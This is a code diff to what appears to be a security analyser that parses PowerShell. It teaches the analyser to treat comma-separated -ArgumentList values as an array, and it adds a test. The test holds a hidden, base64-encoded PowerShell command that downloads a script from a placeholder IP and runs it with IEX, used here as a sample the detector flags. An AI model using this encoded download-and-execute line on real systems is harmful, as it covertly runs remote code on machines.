@@ -1870,7 +1870,22 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                         None | Some(Tok::Param(_)) | Some(Tok::Newline) | Some(Tok::Punct("|" | ";"))
                     );
                     if takes {
-                        let (v, next) = self.ps_argument(t, value_start);
+                        let (first, mut next) = self.ps_argument(t, value_start);
+                        // `-ArgumentList '-NoP','-Enc','…'`: a comma makes an array.
+                        let v = if punct(t.get(next), ",") {
+                            let mut items = vec![first];
+                            while punct(t.get(next), ",") && items.len() < 256 {
+                                let (item, after) = self.ps_argument(t, next + 1);
+                                items.push(item);
+                                next = after.max(next + 2);
+                            }
+                            let mut v = Val::unknown("(…)");
+                            v.taint = items.iter().fold(Taint::default(), |acc, item| acc.union(item.taint));
+                            v.list = Some(items);
+                            v
+                        } else {
+                            first
+                        };
                         args.named.push((p, v));
                         j = next;
                     } else {
@@ -2145,7 +2160,12 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                     );
                 }
                 if let Some(list) = args.named("argumentlist") {
-                    let line = format!("{} {}", file.text, list.text);
+                    // `-ArgumentList '-NoP','-Enc','…'`: the array's items are the words.
+                    let words = match &list.list {
+                        Some(items) => items.iter().map(|v| v.text.as_str()).collect::<Vec<_>>().join(" "),
+                        None => list.text.clone(),
+                    };
+                    let line = format!("{} {}", file.text, words);
                     self.a.nested(&line, Lang::Shell, span.0);
                 }
                 Val::unknown("")
@@ -4026,6 +4046,18 @@ fn global_name(name: &str, lang: Lang) -> String {
 mod tests {
     use super::super::testing::{findings_of, has, tags};
     use super::*;
+
+    #[test]
+    fn start_process_with_an_argument_array_runs_those_words() {
+        // `IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.61/s.ps1')`, UTF-16LE.
+        let encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADYAMQAvAHMALgBwAHMAMQAnACkA";
+        let ps = format!(
+            "Start-Process powershell.exe -WindowStyle Hidden -ArgumentList '-NoP','-W','Hidden','-Enc','{encoded}'\n"
+        );
+        assert!(has(&ps, Lang::PowerShell, "exec/fetched"));
+        let ps = "Start-Process msiexec.exe -ArgumentList '/i','tools.msi','/qn' -Wait\n";
+        assert!(!has(ps, Lang::PowerShell, "exec"));
+    }
 
     #[test]
     fn a_connection_handed_to_a_handler_thread_that_runs_its_lines_is_code_from_the_network() {
